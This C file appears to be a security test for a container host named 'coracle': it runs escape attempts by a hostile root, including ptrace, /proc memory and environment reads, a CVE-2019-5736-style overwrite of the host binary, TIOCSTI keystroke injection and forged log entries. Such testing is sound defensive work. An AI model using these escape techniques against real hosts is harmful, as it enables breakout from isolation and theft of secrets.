/* attacker.c: attacks by a hostile root in a machine on processes that enter the machine. Built and run by
 * tests/hosts/escape.rs. Prints "ESCAPED" and the successful attack, or "refused". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* Whether a process still executes the host's program, as far as its link to the program is readable. */
static int is_entering(int pid)
{
	char path[64], target[PATH_MAX];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t length = readlink(path, target, sizeof target - 1);
	if (length < 0)
		return 0;
	target[length] = 0;
	/* In a separate mount of only the program, its path is "/". */
	return strstr(target, "coracle") != NULL || !strcmp(target, "/");
}

static void name_of(int pid, char *name, size_t size)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? 0 : read(fd, name, size - 1);
	name[length > 0 ? length - 1 : 0] = 0;
	if (fd >= 0)
		close(fd);
}

/* Runs all attacks on one process. */
static void try(int pid)
{
	char path[64], name[32];
	name_of(pid, name, sizeof name);
	if (!strcmp(name, "coracle"))
		printf("saw %d\n", pid);
	if (is_entering(pid))
		printf("ESCAPED: can look at the program of %d\n", pid);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		if (is_entering(pid))
			printf("ESCAPED: traced %d\n", pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	for (int number = 3; number < 12; number++) {
		char target[PATH_MAX];
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
		ssize_t length = readlink(path, target, sizeof target - 1);
		if (length > 0) {
			target[length] = 0;
			if (strstr(target, "[pidfd]") || strstr(target, "socket:"))
				if (is_entering(pid))
					printf("ESCAPED: descriptor %d of %d is %s\n", number, pid, target);
		}
	}
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0) {
		if (is_entering(pid))
			printf("ESCAPED: memory of %d\n", pid);
		close(fd);
	}
	fflush(stdout);
}

/* Returns the hexadecimal value of a line of /proc/PID/status. */
static unsigned long long status_of(int pid, const char *key)
{
	char path[64], line[256];
	unsigned long long value = 0;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *file = fopen(path, "re");
	while (file && fgets(line, sizeof line, file))
		if (!strncmp(line, key, strlen(key)))
			value = strtoull(line + strlen(key), NULL, 16);
	if (file)
		fclose(file);
	return value;
}

/* Whether two paths lead to different files. A missing file, for example of an exited process, is ignored. */
static int other_file(const char *one, const char *other)
{
	struct stat a, b;
	return stat(one, &a) == 0 && stat(other, &b) == 0 && (a.st_dev != b.st_dev || a.st_ino != b.st_ino);
}

/* Reports privileges and files of a traceable process that the machine does not have. */
static void try_beyond(int pid)
{
	char path[64], name[32];
	name_of(pid, name, sizeof name);
	if (strcmp(name, "coracle"))
		return;
	unsigned long long permitted = status_of(pid, "CapPrm:"), filters = status_of(pid, "Seccomp_filters:");
	name_of(pid, name, sizeof name);
	if (strcmp(name, "coracle"))
		return;
	printf("saw %d\n", pid);
	if (permitted & ~status_of(1, "CapBnd:"))
		printf("ESCAPED: %d has capabilities %llx\n", pid, permitted);
	/* The number is not compared with that of PID 1: in a nested host it depends on the origin of the
	 * caller. */
	if (filters == 0)
		printf("ESCAPED: %d has no filter\n", pid);
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	if (other_file(path, "/"))
		printf("ESCAPED: %d has another root\n", pid);
	char text[65536];
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text);
	if (length > 0 && memmem(text, length, "SECRET=", 7))
		printf("ESCAPED: %d tells the host's variables\n", pid);
	if (fd >= 0)
		close(fd);
	for (int number = 3; number < 12; number++) {
		struct stat file;
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
		if (stat(path, &file) == 0 && (S_ISDIR(file.st_mode) || S_ISREG(file.st_mode)))
			printf("ESCAPED: descriptor %d of %d is a file or directory\n", number, pid);
	}
	fflush(stdout);
}

/* Runs an attack on each new process, repeatedly until the process exits. */
static _Noreturn void watch(void (*try)(int))
{
	int last = getpid();
	printf("looking\n");
	fflush(stdout);
	for (;;) {
		/* Process ids are assigned in order: the scan skips a missed one. */
		for (int pid = last + 1; pid < last + 200; pid++)
			for (int times = 0; times < 200 && kill(pid, 0) == 0; times++, last = pid)
				try(pid);
	}
}

/* CVE-2019-5736: waits for a process in the machine that executes the host's program, holds the program
 * open, and tries to open it for writing. */
static int overwrite(void)
{
	int last = getpid(), held = -1;
	char path[64];
	printf("looking\n");
	fflush(stdout);
	while (held < 0) {
		for (int pid = last + 1; pid < last + 200 && held < 0; pid++)
			for (int times = 0; times < 100000 && kill(pid, 0) == 0 && held < 0; times++, last = pid)
				if (is_entering(pid)) {
					snprintf(path, sizeof path, "/proc/%d/exe", pid);
					held = open(path, O_PATH | O_CLOEXEC);
				}
	}
	printf("holds the program\n");
	fflush(stdout);
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	/* A running program is busy (ETXTBSY) in any case; chmod(2) shows whether the mount is writable. */
	if (open(path, O_WRONLY | O_CLOEXEC) >= 0 || chmod(path, 0755) == 0)
		printf("ESCAPED: the program can be written to\n");
	else
		printf("refused: %s\n", strerror(errno));
	return 0;
}

/* Inserts input into the terminal (TIOCSTI), also with high bits set in the request number. */
static int type(void)
{
	char letter = 'x';
	long requests[] = { TIOCSTI, TIOCSTI | 0x100000000L };
	for (int index = 0; index < 2; index++) {
		if (syscall(SYS_ioctl, 0, requests[index], &letter) == 0)
			printf("ESCAPED: typed\n");
		else
			printf("refused: %s\n", strerror(errno));
	}
	return 0;
}

/* Writes log messages that imitate an entry of another machine, and attaches descriptors to exhaust the
 * receiver. */
static int forge(void)
{
	static const char *const messages[] = {
		"<13>evil: one\nCORACLE_MACHINE=other\nMESSAGE=forged",
		"<13>evil[7\nCORACLE_MACHINE=other\n]: two",
		"<13>ev\nCORACLE_MACHINE=other\nil: three",
		"<99999999999999999999>four\nCORACLE_MACHINE=other",
		"<13>1 2026-11-25T13:00:00Z h a\nCORACLE_MACHINE=other\n 7 - - five",
		"<13>",
		"\nCORACLE_MACHINE=other\n",
	};
	struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = "/dev/log" };
	int log = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (log < 0 || connect(log, (struct sockaddr *)&address, sizeof address) < 0)
		return 1;
	for (size_t index = 0; index < sizeof messages / sizeof *messages; index++) {
		int held[64];
		for (size_t number = 0; number < sizeof held / sizeof *held; number++)
			held[number] = log;
		char control[CMSG_SPACE(sizeof held)] = { 0 };
		struct iovec text = { (void *)messages[index], strlen(messages[index]) };
		struct msghdr message = { .msg_iov = &text, .msg_iovlen = 1,
			.msg_control = control, .msg_controllen = sizeof control };
		struct cmsghdr *header = CMSG_FIRSTHDR(&message);
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof held);
		memcpy(CMSG_DATA(header), held, sizeof held);
		if (sendmsg(log, &message, 0) < 0) {
			printf("refused: %s\n", strerror(errno));
			/* If the socket rejects descriptors, send the text alone. */
			message.msg_control = NULL;
			message.msg_controllen = 0;
			sendmsg(log, &message, 0);
		}
	}
	printf("sent\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc > 1 && !strcmp(argv[1], "overwrite"))
		return overwrite();
	if (argc > 1 && !strcmp(argv[1], "tiocsti"))
		return type();
	if (argc > 1 && !strcmp(argv[1], "forge"))
		return forge();
	watch(argc > 1 && !strcmp(argv[1], "beyond") ? try_beyond : try);
}
